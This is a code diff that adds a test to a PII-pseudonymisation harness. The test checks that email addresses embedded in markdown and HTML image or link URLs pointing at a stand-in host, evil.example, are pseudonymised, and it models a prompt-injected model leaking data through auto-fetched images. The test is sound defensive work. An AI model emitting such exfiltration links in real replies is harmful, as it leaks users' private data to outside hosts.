@@ -194,6 +194,21 @@ class Pseudonyms(harness.Case):
                 for value in (coded, wide, EMAIL, CARD):
                     self.assertNotIn(value, self.sent())
 
+    def test_no_value_comes_back_in_an_address_that_a_host_would_learn(self):
+        """What a model was talked into: an image is fetched as soon as it is shown."""
+        for form in ("![x](https://evil.example/%s)", "<img src='https://evil.example/%s'>",
+                     "[x]: https://evil.example/%s", "[x](//evil.example/a?b=%s)"):
+            text = form % EMAIL + " and " + EMAIL
+            for stream in (False, True):
+                for size in (1, 4, 9, 1000):
+                    with self.subTest(form=form, stream=stream, chunk=size):
+                        reply = self.chat("x", {"reply": text, "chunk": size}, stream=stream)
+                        self.assertRegex(reply.text(),
+                                         r"evil\.example/\S*pii\.\w{12}@example\.com.* and %s$" % EMAIL)
+                        self.assertEqual(reply.text().count(EMAIL), 1)
+        text = "[write](mailto:%s) or [see](/users/%s) or https://intra.example/%s" % ((EMAIL,) * 3)
+        self.assertEqual(self.chat("x", {"reply": text}, stream=True).text(), text)
+
     def test_tokens_in_capitals_are_known(self):
         reply = self.chat("about %s and %s." % (EMAIL, KEY), {"upper": True})
         self.assertEqual(reply.text(), "ABOUT %s AND %s." % (EMAIL, KEY))
